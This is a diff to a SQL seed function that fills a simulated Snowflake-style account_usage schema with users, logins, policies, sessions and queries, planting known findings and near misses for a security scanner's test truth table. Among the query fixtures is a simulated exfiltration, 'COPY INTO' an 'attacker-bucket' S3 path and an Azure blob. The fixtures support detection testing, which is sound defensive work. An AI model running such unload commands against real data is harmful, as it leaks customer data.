@@ -5,7 +5,7 @@
 --   SELECT account_usage.seed_security(p_now timestamptz);
 --
 -- empties the security views below and plants one known subject per
--- secscan rule plus clean users, grants, logins and queries, all relative
+-- secscan rule (and near misses that must not fire) plus clean users, grants, logins and queries, all relative
 -- to p_now (pass the FLAKEGUARD_NOW instant).  It also fills
 -- public.seed_security_truth(rule, subject): the findings a scan at p_now
 -- with default [secscan] settings and the shipped IoC list must report,
@@ -216,6 +216,23 @@ CREATE TABLE account_usage.query_history (
 );
 CREATE INDEX ON account_usage.query_history (start_time);
 
+CREATE TABLE account_usage.session_policies (
+    id                           bigint,
+    name                         text,
+    schema_id                    bigint,
+    schema                       text,
+    database_id                  bigint,
+    database                     text,
+    owner                        text,
+    owner_role_type              text,
+    session_idle_timeout_mins    bigint,
+    session_ui_idle_timeout_mins bigint,
+    comment                      text,
+    created                      timestamptz,
+    last_altered                 timestamptz,
+    deleted                      timestamptz
+);
+
 -- Simulator aid standing in for SHOW PARAMETERS IN ACCOUNT (see above).
 CREATE TABLE account_usage.account_parameters (
     key   text,
@@ -238,7 +255,7 @@ BEGIN
 		 account_usage.grants_to_roles, account_usage.roles, account_usage.sessions,
 		 account_usage.network_policies, account_usage.policy_references,
 		 account_usage.password_policies, account_usage.query_history,
-		 account_usage.account_parameters, public.seed_security_truth;
+		 account_usage.account_parameters, account_usage.session_policies, public.seed_security_truth;
 
 	-- Users: (name, type, has_password, has_mfa, has_key, email, default_role,
 	-- last login age in days (NULL: never), created age in days, disabled).
@@ -271,8 +288,22 @@ BEGIN
 		('SVC_PWD', 'SERVICE', true, false, true, NULL, 'ETL', 1, 300, false),
 		('SVC_LEGACY', 'LEGACY_SERVICE', false, false, true, NULL, 'ETL', 1, 300, false),
 		('SVC_OLDKEY', 'SERVICE', false, false, true, NULL, 'ETL', 1, 300, false),
-		('SVC_NOPOLICY', 'SERVICE', false, false, true, NULL, 'ETL', 1, 300, false)
+		('SVC_NOPOLICY', 'SERVICE', false, false, true, NULL, 'ETL', 1, 300, false),
+		('PWOLD_OLGA', 'PERSON', true, true, false, 'olga@example.com', 'ANALYST', 1, 300, false),
+		('PWOLD_NEAR', 'PERSON', true, true, false, 'near@example.com', 'ANALYST', 1, 300, false),
+		('KEY_KIM', 'PERSON', true, true, true, 'kim@example.com', 'ANALYST', 1, 300, false),
+		('KEY_KAI', 'PERSON', true, true, true, 'kai@example.com', 'ANALYST', 1, 300, false),
+		('DRIVER_DAN', NULL, false, false, true, 'dan@example.com', 'ANALYST', 1, 300, false),
+		('MIXED_MIA', 'PERSON', false, false, true, 'mia@example.com', 'ANALYST', 1, 300, false),
+		('FEW_FRED', 'PERSON', false, false, true, 'fred@example.com', 'ANALYST', 1, 300, false)
 	) AS u(name, type, pwd, mfa, rsa, email, role, login, created, disabled);
+	-- Passwords set 30 days ago, but: PWOLD_OLGA past 90 days, PWOLD_NEAR
+	-- just under; ADMIN_NOMFA_DAVE past the admins' 365, ADMIN_ALICE under
+	-- it; disabled OLD_DISABLED and password-less CLEAN_BEN not judged.
+	UPDATE account_usage.users SET password_last_set_time = p_now - CASE name
+		WHEN 'PWOLD_OLGA' THEN 120 WHEN 'PWOLD_NEAR' THEN 85 WHEN 'ADMIN_NOMFA_DAVE' THEN 400
+		WHEN 'ADMIN_ALICE' THEN 200 WHEN 'OLD_DISABLED' THEN 500 WHEN 'CLEAN_BEN' THEN 500 ELSE 30 END * d
+	WHERE has_password OR name = 'CLEAN_BEN';
 	INSERT INTO account_usage.users (user_id, name, login_name, created_on, email, has_password, has_mfa,
 					 disabled, default_role, last_success_login, bypass_mfa_until, type)
 	VALUES (900, 'BYPASS_BEA', 'BYPASS_BEA', p_now - 300 * d, 'bea@example.com', true, true, false, 'ANALYST',
@@ -347,8 +378,27 @@ BEGIN
 						     ref_entity_name, ref_entity_domain, policy_status)
 	VALUES ('SECURITY', 'POLICIES', 10, 'ACCOUNT_PW', 'PASSWORD_POLICY', 'ACCOUNT', 'ACCOUNT', 'ACTIVE');
 
+	-- Session policies: the account's idles 30 minutes; ADMIN_ALICE and
+	-- SECADMIN_BOB have their own of 15 (the limit), ADMIN_NOMFA_DAVE one of
+	-- 60 that wins over the account's; DEEP_ADMIN_CAROL's own was dropped.
+	INSERT INTO account_usage.session_policies (id, name, schema, database, owner, session_idle_timeout_mins,
+						    session_ui_idle_timeout_mins, created, last_altered, deleted)
+	VALUES (20, 'ACCOUNT_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 30, 30, p_now - 300 * d, p_now - 300 * d, NULL),
+	       (21, 'ADMIN_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 15, 10, p_now - 300 * d, p_now - 300 * d, NULL),
+	       (22, 'LAX_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 60, 60, p_now - 300 * d, p_now - 300 * d, NULL),
+	       (23, 'DROPPED_SP', 'POLICIES', 'SECURITY', 'SECURITYADMIN', 5, 5, p_now - 300 * d, p_now - 300 * d,
+		p_now - 20 * d);
+	INSERT INTO account_usage.policy_references (policy_db, policy_schema, policy_id, policy_name, policy_kind,
+						     ref_entity_name, ref_entity_domain, policy_status)
+	VALUES ('SECURITY', 'POLICIES', 20, 'ACCOUNT_SP', 'SESSION_POLICY', 'ACCOUNT', 'ACCOUNT', 'ACTIVE'),
+	       ('SECURITY', 'POLICIES', 21, 'ADMIN_SP', 'SESSION_POLICY', 'ADMIN_ALICE', 'USER', 'ACTIVE'),
+	       ('SECURITY', 'POLICIES', 21, 'ADMIN_SP', 'SESSION_POLICY', 'SECADMIN_BOB', 'USER', 'ACTIVE'),
+	       ('SECURITY', 'POLICIES', 22, 'LAX_SP', 'SESSION_POLICY', 'ADMIN_NOMFA_DAVE', 'USER', 'ACTIVE'),
+	       ('SECURITY', 'POLICIES', 23, 'DROPPED_SP', 'SESSION_POLICY', 'DEEP_ADMIN_CAROL', 'USER', 'ACTIVE');
+
 	INSERT INTO account_usage.account_parameters (key, value, level)
-	VALUES ('PREVENT_UNLOAD_TO_INLINE_URL', 'true', 'ACCOUNT'),
+	VALUES ('PERIODIC_DATA_REKEYING', 'false', ''),
+	       ('PREVENT_UNLOAD_TO_INLINE_URL', 'true', 'ACCOUNT'),
 	       ('REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION', 'true', 'ACCOUNT'),
 	       ('REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION', 'true', 'ACCOUNT'),
 	       ('MIN_DATA_RETENTION_TIME_IN_DAYS', '1', 'ACCOUNT'),
@@ -395,6 +445,35 @@ BEGIN
 	VALUES (311, p_now - 4 * d + interval '3 hours', 'LOGIN', 'STUFFED_USER', '203.0.113.50', 'OTHER',
 		'PASSWORD', 'DUO_PUSH', 'YES');
 
+	-- KEY_KIM (RSA key) signs in with a password; KEY_KAI only failed to,
+	-- or did so before the threat window.  SSO_SUE also signs in with a
+	-- password; CLEAN_BEN (SSO) only failed to.  DRIVER_DAN (type NULL) signs
+	-- in only from drivers, 6 times in 30 days; MIXED_MIA also once from
+	-- the web interface; FEW_FRED 4 times in 30 days (2 more before);
+	-- service user CLEAN_SVC from drivers only.
+	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
+						 reported_client_type, first_authentication_factor,
+						 second_authentication_factor, is_success, error_code, error_message)
+	VALUES (401, p_now - 1 * d, 'LOGIN', 'KEY_KIM', '10.3.3.1', 'SNOWFLAKE_UI', 'PASSWORD', 'MFA_TOKEN', 'YES', NULL, NULL),
+	       (402, p_now - 2 * d, 'LOGIN', 'KEY_KIM', '10.3.3.1', 'PYTHON_DRIVER', 'RSA_KEYPAIR', NULL, 'YES', NULL, NULL),
+	       (403, p_now - 1 * d, 'LOGIN', 'KEY_KAI', '10.3.3.2', 'SNOWFLAKE_UI', 'PASSWORD', NULL, 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'),
+	       (404, p_now - 10 * d, 'LOGIN', 'KEY_KAI', '10.3.3.2', 'SNOWFLAKE_UI', 'PASSWORD', 'MFA_TOKEN', 'YES', NULL, NULL),
+	       (405, p_now - 1 * d, 'LOGIN', 'KEY_KAI', '10.3.3.2', 'JDBC_DRIVER', 'RSA_KEYPAIR', NULL, 'YES', NULL, NULL),
+	       (406, p_now - 2 * d, 'LOGIN', 'SSO_SUE', '10.1.1.3', 'SNOWFLAKE_UI', 'PASSWORD', 'MFA_TOKEN', 'YES', NULL, NULL),
+	       (407, p_now - 1 * d, 'LOGIN', 'CLEAN_BEN', '10.1.1.2', 'SNOWFLAKE_UI', 'PASSWORD', NULL, 'NO', 390100, 'INCORRECT_USERNAME_PASSWORD'),
+	       (429, p_now - 3 * d, 'LOGIN', 'MIXED_MIA', '10.3.3.4', 'SNOWFLAKE_UI', 'SAML2_ASSERTION', NULL, 'YES', NULL, NULL);
+	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
+						 reported_client_type, first_authentication_factor, is_success)
+	SELECT base + i, p_now - i * step * d, 'LOGIN', who, '10.3.4.' || i,
+	       CASE i % 3 WHEN 0 THEN 'PYTHON_DRIVER' WHEN 1 THEN 'GO_DRIVER' ELSE 'JDBC_DRIVER' END, 'RSA_KEYPAIR', 'YES'
+	FROM (VALUES (410, 'DRIVER_DAN', 6, 4), (420, 'MIXED_MIA', 6, 4), (430, 'FEW_FRED', 4, 6),
+		     (440, 'CLEAN_SVC', 5, 5)) AS w(base, who, cnt, step),
+	     generate_series(1, w.cnt) AS i;
+	INSERT INTO account_usage.login_history (event_id, event_timestamp, event_type, user_name, client_ip,
+						 reported_client_type, first_authentication_factor, is_success)
+	VALUES (435, p_now - 40 * d, 'LOGIN', 'FEW_FRED', '10.3.4.9', 'JDBC_DRIVER', 'RSA_KEYPAIR', 'YES'),
+	       (436, p_now - 50 * d, 'LOGIN', 'FEW_FRED', '10.3.4.9', 'JDBC_DRIVER', 'RSA_KEYPAIR', 'YES');
+
 	INSERT INTO account_usage.sessions (session_id, created_on, user_name, authentication_method,
 					    login_event_id, client_application_id, client_application_version,
 					    client_environment)
@@ -404,6 +483,18 @@ BEGIN
 		'{"APPLICATION":"rapeflake","OS":"Linux"}'),
 	       (8003, p_now - 1 * d, 'CLEAN_SVC', 'RSA keypair', 3, 'JDBC 3.14.0', '3.14.0',
 		'{"APPLICATION":"DBeaver_DBeaverCommunity","OS":"Linux"}');
+	-- Client applications: a baseline from 80 days back; Go appears 3 days
+	-- ago (rare), a new PythonConnector version is not a new application,
+	-- SnowSQL appeared 12 days ago (before the last 10).
+	INSERT INTO account_usage.sessions (session_id, created_on, user_name, authentication_method,
+					    login_event_id, client_application_id, client_application_version,
+					    client_environment)
+	VALUES (8010, p_now - 80 * d, 'CLEAN_ANNA', 'Password', NULL, 'Snowflake UI', '1.0', '{"OS":"Mac OS X"}'),
+	       (8011, p_now - 60 * d, 'CLEAN_SVC', 'RSA keypair', NULL, 'JDBC 3.12.0', '3.12.0', '{"OS":"Linux"}'),
+	       (8012, p_now - 45 * d, 'DRIVER_DAN', 'RSA keypair', NULL, 'PythonConnector 3.0.0', '3.0.0', '{"OS":"Linux"}'),
+	       (8013, p_now - 2 * d, 'DRIVER_DAN', 'RSA keypair', 413, 'PythonConnector 3.12.1', '3.12.1', '{"OS":"Linux"}'),
+	       (8014, p_now - 3 * d, 'KEY_KIM', 'RSA keypair', 402, 'Go 1.6.0', '1.6.0', '{"OS":"Linux"}'),
+	       (8015, p_now - 12 * d, 'CLEAN_ANNA', 'Password', NULL, 'SnowSQL 1.2.32', '1.2.32', '{"OS":"Linux"}');
 
 	-- Query history: security DDL, an exfiltration chain, noise.
 	INSERT INTO account_usage.query_history (query_id, query_text, query_type, session_id, user_name,
@@ -436,6 +527,44 @@ BEGIN
 		p_now - 1 * d, p_now - 1 * d),
 	       ('q-select', 'SELECT * FROM PROD.SALES.ORDERS', 'SELECT', 9002, 'CLEAN_ANNA', 'ANALYST', 'SUCCESS',
 		p_now - 1 * d, p_now - 1 * d);
+	-- SCIM tokens, shares and unloads to URLs, with near misses: a failed
+	-- and an old token, a consumer database from a share, a grant to a
+	-- share, a failed CREATE SHARE, an unload through a storage
+	-- integration, a load from a URL, an unload to a named stage.
+	INSERT INTO account_usage.query_history (query_id, query_text, query_type, session_id, user_name,
+						 role_name, execution_status, start_time, end_time)
+	SELECT q.id, q.txt, q.typ, q.sess, q.who, q.role, q.st, p_now - q.age, p_now - q.age
+	FROM (VALUES
+		('q-scim', 'SELECT SYSTEM$GENERATE_SCIM_ACCESS_TOKEN(''OKTA_PROVISIONING'')', 'SELECT', 9101,
+		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', interval '2 hours'),
+		('q-scim-failed', 'select system$generate_scim_access_token(''OKTA_PROVISIONING'')', 'SELECT', 9101,
+		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'FAIL', interval '3 hours'),
+		('q-scim-old', 'SELECT SYSTEM$GENERATE_SCIM_ACCESS_TOKEN(''OKTA_PROVISIONING'')', 'SELECT', 9102,
+		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 9 * d),
+		('q-share-create', 'CREATE SHARE sales_share', 'CREATE', 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN',
+		 'SUCCESS', 1 * d),
+		('q-share-alter', '  alter share sales_share add accounts = partner.acct1', 'ALTER', 9103,
+		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
+		('q-reader', 'CREATE MANAGED ACCOUNT reader1 ADMIN_NAME = reader_admin, TYPE = READER', 'CREATE',
+		 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
+		('q-share-failed', 'CREATE SHARE other_share', 'CREATE', 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN', 'FAIL',
+		 1 * d),
+		('q-share-db', 'CREATE DATABASE partner_db FROM SHARE provider.sales_share', 'CREATE', 9104,
+		 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
+		('q-share-grant', 'GRANT USAGE ON DATABASE sales TO SHARE sales_share', 'GRANT', 9103, 'ADMIN_ALICE',
+		 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
+		('q-shares-list', 'SHOW SHARES', 'SHOW', 9103, 'ADMIN_ALICE', 'ACCOUNTADMIN', 'SUCCESS', 1 * d),
+		('q-unload-url', 'COPY INTO ''s3://attacker-bucket/dump/'' FROM PROD.SALES.CUSTOMERS CREDENTIALS = (AWS_KEY_ID = ''x'')',
+		 'UNLOAD', 9105, 'EXFIL_EVE', 'ANALYST', 'SUCCESS', 1 * d),
+		('q-unload-azure', E'copy into\n''azure://acct.blob.core.windows.net/c/'' from PROD.SALES.ORDERS',
+		 'UNLOAD', 9105, 'EXFIL_EVE', 'ANALYST', 'SUCCESS', 1 * d),
+		('q-unload-int', 'COPY INTO ''s3://corp-exports/daily/'' FROM PROD.SALES.ORDERS STORAGE_INTEGRATION = CORP_S3',
+		 'UNLOAD', 9106, 'CLEAN_SVC', 'ETL', 'SUCCESS', 1 * d),
+		('q-load-url', 'COPY INTO PROD.SALES.RAW FROM ''gcs://corp-landing/raw/''', 'COPY', 9106, 'CLEAN_SVC',
+		 'ETL', 'SUCCESS', 1 * d),
+		('q-unload-stage', 'COPY INTO @corp_stage/daily/ FROM PROD.SALES.ORDERS', 'UNLOAD', 9106, 'CLEAN_SVC',
+		 'ETL', 'SUCCESS', 1 * d)
+	) AS q(id, txt, typ, sess, who, role, st, age);
 
 	INSERT INTO public.seed_security_truth (rule, subject)
 	VALUES ('user-password-no-mfa', 'NOMFA_NICK'),
@@ -470,7 +599,22 @@ BEGIN
 	       ('security-integration-changed', 'q-secint'),
 	       ('exfil-chain', '9001'),
 	       ('mfa-bypass-active', 'BYPASS_BEA'),
-	       ('grant-to-public', 'SELECT on TABLE PROD.SALES.CUSTOMERS');
+	       ('grant-to-public', 'SELECT on TABLE PROD.SALES.CUSTOMERS'),
+	       ('data-protection-params', 'PERIODIC_DATA_REKEYING'),
+	       ('password-old', 'PWOLD_OLGA'),
+	       ('password-old', 'ADMIN_NOMFA_DAVE'),
+	       ('admin-idle-timeout', 'DEEP_ADMIN_CAROL'),
+	       ('admin-idle-timeout', 'ADMIN_NOMFA_DAVE'),
+	       ('keypair-user-password-login', 'KEY_KIM'),
+	       ('sso-user-password-login', 'SSO_SUE'),
+	       ('person-looks-like-service', 'DRIVER_DAN'),
+	       ('rare-client-app', 'Go'),
+	       ('scim-token-created', 'q-scim'),
+	       ('share-changed', 'q-share-create'),
+	       ('share-changed', 'q-share-alter'),
+	       ('share-changed', 'q-reader'),
+	       ('copy-into-external-url', 'q-unload-url'),
+	       ('copy-into-external-url', 'q-unload-azure');
 	SELECT count(*) INTO n FROM public.seed_security_truth;
 	RETURN n;
 END $$;
